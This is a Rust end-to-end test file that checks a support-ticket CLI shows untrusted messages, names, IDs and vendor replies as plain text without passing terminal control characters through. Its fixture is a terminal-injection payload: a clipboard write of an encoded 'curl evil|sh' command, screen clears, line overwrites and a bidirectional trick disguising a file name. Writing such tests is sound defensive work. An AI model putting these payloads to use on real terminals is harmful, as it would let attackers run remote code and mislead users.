//! What strangers write is shown, and never obeyed by the terminal of who reads it.

use e2e::send::{inbound, inbound_body};
use e2e::{ANA, answered, case, settled, with_ticket};
use simulators::braze::User;
use simulators::{Effect, Fault};

use crate::kit::Live;

/// Writes the clipboard, clears the screen, colours, rings, goes back to the line's beginning, turns
/// the direction.
const EVIL: &str =
    "hi\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{9b}31m\u{8}\rgone\u{202e}gnp.exe\u{2066}";

/// The characters in a command's output that a terminal obeys.
fn obeyed(out: &str) -> Vec<char> {
    let shown = |c: &char| match c {
        '\n' | '\t' => true,
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}' => {
            false
        }
        c => !c.is_control(),
    };
    let mut found: Vec<char> = out.chars().filter(|c| !shown(c)).collect();
    found.sort_unstable();
    found.dedup();
    found
}

/// The command shows something of the evil text, as text only, with and without `--json`.
async fn is_only_shown(live: &Live, command: &str) {
    for command in [command.to_owned(), format!("{command} --json")] {
        let said = live.run(&command).await;
        let out = format!("{}{}", said.out, said.err);
        assert_eq!(said.code, Some(0), "{said:?}");
        let obeyed = obeyed(&out);
        assert!(obeyed.is_empty(), "{command} prints {obeyed:?}");
    }
}

#[test]
fn a_text_that_became_a_dead_letter_is_only_shown() {
    case!(async {
        let live = Live::start().await;
        with_ticket(&live.stack).await;
        live.refused_texts(&[EVIL]).await;
        let id = live.ids().await.remove(0);
        let shown = live.run(&format!("dead-letters show {id} --text")).await;
        assert!(shown.out.contains("gone"), "{shown:?}");
        is_only_shown(&live, &format!("dead-letters show {id} --text")).await;
    });
}

#[test]
fn a_body_that_cannot_be_read_is_only_shown() {
    case!(async {
        let live = Live::start().await;
        inbound(&live.stack, format!("{{\"message\": {EVIL}")).await;
        settled(&live.stack).await;
        let id = live.ids().await.remove(0);
        is_only_shown(&live, &format!("dead-letters show {id} --text")).await;
    });
}

#[test]
fn comments_of_customers_and_agents_are_only_shown() {
    case!(async {
        let live = Live::start().await;
        let ticket = with_ticket(&live.stack).await;
        answered(&live.stack, ticket, EVIL).await;
        inbound(
            &live.stack,
            inbound_body(ANA, EVIL, "dispatch-1").to_string(),
        )
        .await;
        settled(&live.stack).await;
        let shown = live.run("trace ana --text").await;
        assert!(shown.out.contains("gone"), "{shown:?}");
        is_only_shown(&live, "trace ana --text").await;
    });
}

#[test]
fn a_name_is_only_shown() {
    case!(async {
        let live = Live::start().await;
        live.stack
            .zendesk
            .fault(Fault::always("tickets.create", Effect::status(422)));
        let mut body = inbound_body(ANA, "Hello", "dispatch-1");
        body["first_name"] = EVIL.into();
        inbound(&live.stack, body.to_string()).await;
        settled(&live.stack).await;
        e2e::table::redelivered(&live.stack).await;
        let id = live.ids().await.remove(0);
        is_only_shown(&live, &format!("dead-letters show {id} --text")).await;
    });
}

#[test]
fn an_id_is_only_shown() {
    case!(async {
        let live = Live::start().await;
        let id = "an\u{1b}[2J\u{9b}a\u{202e}";
        live.stack
            .braze
            .add_user(User::new(id, "Ana", "X", "+15550100099"));
        live.stack
            .zendesk
            .fault(Fault::always("*", Effect::status(503)));
        inbound(
            &live.stack,
            inbound_body(id, "Hello", "dispatch-1").to_string(),
        )
        .await;
        settled(&live.stack).await;
        is_only_shown(&live, "status").await;
    });
}

#[test]
fn what_a_vendor_answers_is_only_shown() {
    case!(async {
        let live = Live::start().await;
        let ticket = with_ticket(&live.stack).await;
        live.stack.braze.fault(Fault::once(
            "campaigns.trigger.send",
            Effect::Respond {
                status: 400,
                headers: vec![],
                body: format!("{{\"message\":{}}}", serde_json::json!(EVIL)),
            },
        ));
        answered(&live.stack, ticket, "An answer").await;
        let id = live.ids().await.remove(0);
        is_only_shown(&live, &format!("dead-letters show {id}")).await;
        is_only_shown(&live, "dead-letters list").await;
    });
}
